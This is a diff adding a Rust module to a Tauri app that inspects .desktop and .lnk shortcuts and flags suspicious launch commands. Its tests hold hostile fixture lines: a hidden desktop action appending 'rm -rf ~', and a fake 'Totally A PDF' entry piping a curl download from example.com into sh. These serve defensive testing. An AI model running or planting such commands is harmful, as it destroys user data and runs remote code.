@@ -0,0 +1,321 @@
+//! Shortcut inspection utilities for Tauri applications
+//!
+//! Linux `.desktop` entries and Windows `.lnk` shortcuts can hide arbitrary
+//! commands behind a friendly name. This module extracts the command a
+//! shortcut would run so the app can display and vet it before launching:
+//! 1. `.desktop` files: the `Exec` and `TryExec` keys of `[Desktop Entry]`;
+//!    the `Exec` keys of other groups, such as `[Desktop Action …]`, are vetted too
+//! 2. `.lnk` files: the link target and its arguments
+//! 3. Flagging of commands containing shell metacharacters
+
+use super::allowed_roots::AllowedRoots;
+use log::warn;
+use serde::Serialize;
+use std::fs;
+use std::path::Path;
+use tauri::State;
+
+/// Maximum size of a shortcut file we are willing to parse (64 KiB)
+const MAX_SHORTCUT_SIZE: u64 = 64 * 1024;
+
+/// Characters that let a command line chain, redirect or substitute commands
+const SHELL_METACHARACTERS: [char; 10] = [';', '|', '&', '$', '`', '>', '<', '(', ')', '\n'];
+
+/// Shell interpreters that are suspicious when used to launch a shortcut
+const SHELL_INTERPRETERS: [&str; 8] = [
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "cmd",
+    "cmd.exe",
+    "powershell",
+    "powershell.exe",
+];
+
+/// The kind of shortcut that was inspected
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ShortcutKind {
+    /// A freedesktop.org `.desktop` entry
+    Desktop,
+    /// A Windows shell link (`.lnk`)
+    WindowsLink,
+}
+
+/// Information about what a shortcut would launch
+#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
+pub struct ShortcutInfo {
+    /// The kind of shortcut
+    pub kind: ShortcutKind,
+    /// Program to run (`Exec` program or `.lnk` target)
+    pub target: Option<String>,
+    /// Arguments passed to the program
+    pub arguments: Option<String>,
+    /// The `TryExec` key of a `.desktop` entry, if any
+    pub try_exec: Option<String>,
+    /// Human-readable reasons the command looks dangerous
+    pub warnings: Vec<String>,
+    /// Whether any warnings were raised
+    pub suspicious: bool,
+}
+
+impl ShortcutInfo {
+    /// Build shortcut info and flag dangerous commands
+    fn new(
+        kind: ShortcutKind,
+        target: Option<String>,
+        arguments: Option<String>,
+        try_exec: Option<String>,
+    ) -> Self {
+        let mut warnings = Vec::new();
+        for field in [&target, &arguments, &try_exec].into_iter().flatten() {
+            for warning in command_warnings(field) {
+                if !warnings.contains(&warning) {
+                    warnings.push(warning);
+                }
+            }
+        }
+
+        Self {
+            kind,
+            target,
+            arguments,
+            try_exec,
+            suspicious: !warnings.is_empty(),
+            warnings,
+        }
+    }
+
+    /// Flag dangerous commands in the `Exec` key of another `group`
+    fn vet_group_exec(&mut self, group: &str, exec: &str) {
+        for warning in command_warnings(exec) {
+            let warning = format!("{} in {}", warning, group);
+            if !self.warnings.contains(&warning) {
+                self.warnings.push(warning);
+            }
+        }
+        self.suspicious = !self.warnings.is_empty();
+    }
+}
+
+/// Collect warnings for a single command-line fragment
+fn command_warnings(command: &str) -> Vec<String> {
+    let mut warnings = Vec::new();
+
+    for meta in SHELL_METACHARACTERS {
+        if command.contains(meta) {
+            warnings.push(format!("Shell metacharacter {:?} in command", meta));
+        }
+    }
+
+    let program = command.split_whitespace().next().unwrap_or("");
+    let program_name = program
+        .rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(program)
+        .to_lowercase();
+    if SHELL_INTERPRETERS.contains(&program_name.as_str()) {
+        warnings.push(format!(
+            "Command is run through shell interpreter {}",
+            program_name
+        ));
+    }
+
+    warnings
+}
+
+/// Parse the `[Desktop Entry]` group of a `.desktop` file
+///
+/// Launchers also run the `Exec` keys of action groups, so those are vetted as well.
+pub fn parse_desktop_entry(contents: &str) -> Result<ShortcutInfo, String> {
+    let mut group = "";
+    let mut exec = None;
+    let mut try_exec = None;
+    let mut other_execs = Vec::new();
+
+    for line in contents.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+
+        if line.starts_with('[') {
+            group = line;
+            continue;
+        }
+
+        if let Some((key, value)) = line.split_once('=') {
+            match (group == "[Desktop Entry]", key.trim()) {
+                (true, "Exec") => exec = Some(value.trim().to_string()),
+                (true, "TryExec") => try_exec = Some(value.trim().to_string()),
+                (false, "Exec") => other_execs.push((group, value.trim())),
+                _ => {}
+            }
+        }
+    }
+
+    let exec = exec.ok_or_else(|| "Desktop entry has no Exec key".to_string())?;
+    let (target, arguments) = match exec.split_once(char::is_whitespace) {
+        Some((program, args)) => (program.to_string(), Some(args.trim().to_string())),
+        None => (exec, None),
+    };
+
+    let mut info = ShortcutInfo::new(ShortcutKind::Desktop, Some(target), arguments, try_exec);
+    for (group, exec) in other_execs {
+        info.vet_group_exec(group, exec);
+    }
+    Ok(info)
+}
+
+/// Parse a Windows `.lnk` shell link
+fn parse_windows_link(path: &Path) -> Result<ShortcutInfo, String> {
+    let link =
+        lnk::ShellLink::open(path).map_err(|e| format!("Failed to parse shortcut: {:?}", e))?;
+
+    let target = link
+        .link_info()
+        .as_ref()
+        .and_then(|info| info.local_base_path().clone())
+        .or_else(|| link.relative_path().clone());
+
+    Ok(ShortcutInfo::new(
+        ShortcutKind::WindowsLink,
+        target,
+        link.arguments().clone(),
+        None,
+    ))
+}
+
+/// Inspect a `.desktop` or `.lnk` shortcut and report what it would launch
+#[tauri::command]
+pub fn inspect_shortcut(
+    roots: State<'_, AllowedRoots>,
+    path: String,
+) -> Result<ShortcutInfo, String> {
+    let path = roots.check(Path::new(&path))?;
+    inspect_shortcut_at(&path)
+}
+
+/// Inspect the shortcut at `path_ref`
+pub(crate) fn inspect_shortcut_at(path_ref: &Path) -> Result<ShortcutInfo, String> {
+    let metadata = fs::metadata(path_ref).map_err(|e| format!("Failed to read shortcut: {}", e))?;
+    if !metadata.is_file() {
+        return Err("Shortcut path is not a file".into());
+    }
+    if metadata.len() > MAX_SHORTCUT_SIZE {
+        return Err("Shortcut file is too large".into());
+    }
+
+    let extension = path_ref
+        .extension()
+        .and_then(|ext| ext.to_str())
+        .map(|ext| ext.to_lowercase());
+
+    let info = match extension.as_deref() {
+        Some("desktop") => {
+            let contents = fs::read_to_string(path_ref)
+                .map_err(|e| format!("Failed to read shortcut: {}", e))?;
+            parse_desktop_entry(&contents)?
+        }
+        Some("lnk") => parse_windows_link(path_ref)?,
+        _ => return Err("Unsupported shortcut type".into()),
+    };
+
+    if info.suspicious {
+        warn!("Suspicious shortcut detected: {}", path_ref.display());
+    }
+
+    Ok(info)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::path::PathBuf;
+
+    const SAFE_DESKTOP: &str = "\
+[Desktop Entry]
+Type=Application
+Name=Text Editor
+TryExec=/usr/bin/gedit
+Exec=/usr/bin/gedit %U
+Icon=accessories-text-editor
+
+[Desktop Action new-window]
+Exec=/usr/bin/gedit --new-window
+";
+
+    const HIDDEN_ACTION_DESKTOP: &str = "\
+[Desktop Entry]
+Type=Application
+Name=Text Editor
+Exec=/usr/bin/gedit %U
+Actions=new-window;
+
+[Desktop Action new-window]
+Exec=/usr/bin/gedit --new-window; rm -rf ~
+";
+
+    const MALICIOUS_DESKTOP: &str = "\
+[Desktop Entry]
+Type=Application
+Name=Totally A PDF
+Exec=sh -c \"curl http://example.com/x | sh\"
+";
+
+    fn write_fixture(dir: &Path, name: &str, contents: &str) -> PathBuf {
+        let path = dir.join(name);
+        fs::write(&path, contents).unwrap();
+        path
+    }
+
+    #[test]
+    fn test_parse_safe_desktop_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = write_fixture(dir.path(), "editor.desktop", SAFE_DESKTOP);
+
+        let info = inspect_shortcut_at(&path).unwrap();
+        assert_eq!(info.kind, ShortcutKind::Desktop);
+        assert_eq!(info.target.as_deref(), Some("/usr/bin/gedit"));
+        assert_eq!(info.arguments.as_deref(), Some("%U"));
+        assert_eq!(info.try_exec.as_deref(), Some("/usr/bin/gedit"));
+        assert!(!info.suspicious);
+    }
+
+    #[test]
+    fn test_flag_suspicious_action_exec() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = write_fixture(dir.path(), "editor.desktop", HIDDEN_ACTION_DESKTOP);
+
+        // The main entry looks harmless, but the launcher also offers the action
+        let info = inspect_shortcut_at(&path).unwrap();
+        assert_eq!(info.target.as_deref(), Some("/usr/bin/gedit"));
+        assert!(info.suspicious);
+        assert!(info
+            .warnings
+            .iter()
+            .any(|w| w.contains("';'") && w.contains("[Desktop Action new-window]")));
+    }
+
+    #[test]
+    fn test_flag_suspicious_exec() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = write_fixture(dir.path(), "invoice.desktop", MALICIOUS_DESKTOP);
+
+        let info = inspect_shortcut_at(&path).unwrap();
+        assert_eq!(info.target.as_deref(), Some("sh"));
+        assert!(info.suspicious);
+        assert!(info.warnings.iter().any(|w| w.contains("'|'")));
+        assert!(info.warnings.iter().any(|w| w.contains("interpreter sh")));
+    }
+
+    #[test]
+    fn test_rejects_missing_exec_and_unknown_types() {
+        assert!(parse_desktop_entry("[Desktop Entry]\nName=Broken\n").is_err());
+
+        let dir = tempfile::tempdir().unwrap();
+        let path = write_fixture(dir.path(), "notes.txt", SAFE_DESKTOP);
+        assert!(inspect_shortcut_at(&path).is_err());
+    }
+}